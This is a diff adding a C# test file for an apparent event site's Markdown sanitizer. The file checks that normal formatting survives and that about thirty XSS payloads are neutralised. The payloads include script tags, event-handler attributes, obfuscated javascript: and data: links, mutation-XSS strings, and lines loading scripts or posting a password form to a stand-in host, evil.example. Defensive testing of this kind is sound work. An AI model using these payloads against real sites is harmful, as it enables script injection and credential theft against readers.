@@ -1,0 +1,83 @@
+using System.Text.RegularExpressions;
+using EventFly.Infrastructure.Markdown;
+
+namespace EventFly.Infrastructure.Tests.Markdown;
+
+public sealed partial class SanitizedMarkdownTests
+{
+    private readonly SanitizedMarkdown _markdown = new();
+
+    [Fact]
+    public void What_people_use_survives() =>
+        _markdown
+            .ToHtml("# Doors at **18:00**\n\n- bring a [ticket](https://example.org/t \"yours\")\n- or `code`")
+            .ShouldSatisfyAllConditions(
+                html => html.ShouldContain("<h3>Doors at <strong>18:00</strong></h3>"),
+                html => html.ShouldContain("href=\"https://example.org/t\""),
+                html => html.ShouldContain("rel=\"nofollow ugc noopener\""),
+                html => html.ShouldContain("<code>code</code>")
+            );
+
+    [Fact]
+    public void Bare_addresses_become_links() =>
+        _markdown.ToHtml("See https://example.org/a?b=1").ShouldContain("<a href=\"https://example.org/a?b=1\"");
+
+    [Theory]
+    [InlineData("<script>alert(1)</script>")]
+    [InlineData("<ScRiPt src=//evil.example/x.js></sCrIpT>")]
+    [InlineData("<img src=x onerror=alert(1)>")]
+    [InlineData("<svg onload=alert(1)><animate onbegin=alert(1)>")]
+    [InlineData("<iframe srcdoc='<script>alert(1)</script>'></iframe>")]
+    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
+    [InlineData("<div style=\"background:url(javascript:alert(1))\">x</div>")]
+    [InlineData("<style>@import 'https://evil.example'</style>")]
+    [InlineData("<form action=https://evil.example><input name=password></form>")]
+    [InlineData("<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
+    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
+    [InlineData("<base href=https://evil.example/><meta http-equiv=refresh content=0>")]
+    [InlineData("<details open ontoggle=alert(1)>")]
+    [InlineData("[x](javascript:alert(1))")]
+    [InlineData("[x](JaVaScRiPt:alert(1))")]
+    [InlineData("[x](&#106;avascript:alert(1))")]
+    [InlineData("[x](java\tscript:alert(1))")]
+    [InlineData("[x](\u0001javascript:alert(1))")]
+    [InlineData("[x](<java\nscript:alert(1)>)")]
+    [InlineData("[x](vbscript:msgbox(1))")]
+    [InlineData("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
+    [InlineData("![x](javascript:alert(1))")]
+    [InlineData("![x](https://evil.example/pixel.gif)")]
+    [InlineData("![x](x\" onerror=\"alert(1))")]
+    [InlineData("[x](https://a.example \"t\\\" onmouseover=\\\"alert(1)\")")]
+    [InlineData("<javascript:alert(1)>")]
+    [InlineData("[x]: javascript:alert(1)\n\n[x]")]
+    [InlineData("```html\" onclick=alert(1)\n<script>alert(1)</script>\n```")]
+    [InlineData("`<script>alert(1)</script>`")]
+    [InlineData("| a | <img src=x onerror=alert(1)> |\n|---|---|\n| <b onclick=alert(1)> | [y](javascript:x) |")]
+    public void What_attacks_readers_does_not(string attack)
+    {
+        var html = _markdown.ToHtml(attack);
+
+        Elements().Matches(html).Select(m => m.Groups[1].Value).ShouldBeSubsetOf(Harmless);
+        foreach (Match tag in Tags().Matches(html))
+        {
+            Attributes().Matches(tag.Value).Select(m => m.Groups[1].Value).ShouldBeSubsetOf(Kept);
+            tag.Value.ShouldNotMatch("(?i)script:|data:|vbscript|evil\\.example");
+        }
+    }
+
+    private static readonly string[] Harmless =
+    [
+        .. "p br hr h3 h4 h5 h6 ul ol li blockquote pre code em strong del ins a table thead tbody tr th td".Split(' '),
+    ];
+
+    private static readonly string[] Kept = ["href", "title", "rel", "start"];
+
+    [GeneratedRegex("<([a-z0-9]+)")]
+    private static partial Regex Elements();
+
+    [GeneratedRegex("<[a-z][^>]*>")]
+    private static partial Regex Tags();
+
+    [GeneratedRegex("\\s([a-z-]+)=\"[^\"]*\"")]
+    private static partial Regex Attributes();
+}
